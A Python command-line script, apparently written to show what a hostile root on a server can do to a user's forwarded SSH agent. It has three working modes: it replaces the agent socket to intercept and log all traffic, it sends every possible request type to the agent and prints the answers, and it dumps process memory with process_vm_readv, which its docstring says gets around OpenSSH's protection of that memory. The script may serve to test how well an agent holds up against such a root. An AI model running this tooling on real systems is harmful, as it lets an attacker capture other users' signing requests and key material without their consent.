"""What root of a server tries in order to get hold of a key that is in an agent somewhere else. It runs at the server.

python what_root_sees.py hear SOCKET FILE   write down what goes through the socket of an agent, from now on
python what_root_sees.py ask SOCKET BLOB    send every request that there can be; print what is answered, in hex
python what_root_sees.py look PROGRAM       print the memory of all processes of programs whose names begin so, in hex
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import re
import socket
import sys
import threading
from pathlib import Path

_LAST = {8, 9, 18, 19, 22}
"""Requests after which an agent has nothing, or is locked."""


def hear(place: str, file: str) -> None:
    """Take the place of a socket, and carry everything on to it."""
    real = f"{place}.real"
    os.rename(place, real)  # noqa: PTH104
    with socket.socket(socket.AF_UNIX) as listener, Path(file).open("wb", buffering=0) as heard:
        listener.bind(place)
        listener.listen()
        print("hears", flush=True)

        def carry(source: socket.socket, target: socket.socket) -> None:
            while data := source.recv(65_536):
                heard.write(data)
                target.sendall(data)
            target.shutdown(socket.SHUT_WR)

        while True:
            near, _ = listener.accept()
            far = socket.socket(socket.AF_UNIX)
            far.connect(real)
            for pair in ((near, far), (far, near)):
                threading.Thread(target=carry, args=pair, daemon=True).start()


def ask(place: str, blob: str) -> None:
    """Send all 256 requests: without anything, with the public key, and with the key, a text to sign and flags."""
    key = bytes.fromhex(blob)
    word = len(key).to_bytes(4, "big") + key
    for kind in sorted(range(256), key=lambda kind: (kind in _LAST, kind)):
        for body in (b"", word, word + b"\0\0\0\1x" + bytes(4)):
            answer = b""
            # It hangs up on what it does not understand.
            with socket.socket(socket.AF_UNIX) as agent, contextlib.suppress(ConnectionError):
                agent.connect(place)
                agent.sendall((1 + len(body)).to_bytes(4, "big") + bytes([kind]) + body)
                size = int.from_bytes(agent.recv(4, socket.MSG_WAITALL), "big")
                answer = agent.recv(size, socket.MSG_WAITALL)
            print(answer.hex())


def look(program: str) -> None:
    """Read what processes have in their memory."""
    for process in Path("/proc").glob("[0-9]*"):
        if not (process / "comm").read_text().startswith(program):
            continue
        for line in (process / "maps").read_text().splitlines():
            match = re.match(r"(\w+)-(\w+) rw.. .*?(?!\[v)\S*$", line)
            if match:
                first, last = (int(number, 16) for number in match.groups())
                print(_memory(int(process.name), first, last - first).hex())


class _Part(ctypes.Structure):
    _fields_ = (("start", ctypes.c_void_p), ("size", ctypes.c_size_t))


def _memory(process: int, start: int, size: int) -> bytes:
    """Read a part of the memory of a process, by the right to trace it.

    OpenSSH asks the system to hide some of its processes. Then `/proc/PID/mem` is the computer's root's, whom this root
    is not; but the computer's root could trace the process, and so can this one.
    """
    buffer = ctypes.create_string_buffer(size)
    here, there = _Part(ctypes.addressof(buffer), size), _Part(start, size)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.process_vm_readv.restype = ctypes.c_ssize_t
    if libc.process_vm_readv(process, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) != size:
        raise OSError(ctypes.get_errno(), f"memory of process {process}")
    return buffer.raw


if __name__ == "__main__":
    match sys.argv[1:]:
        case ["hear", place, file]:
            hear(place, file)
        case ["ask", place, blob]:
            ask(place, blob)
        case ["look", program]:
            look(program)
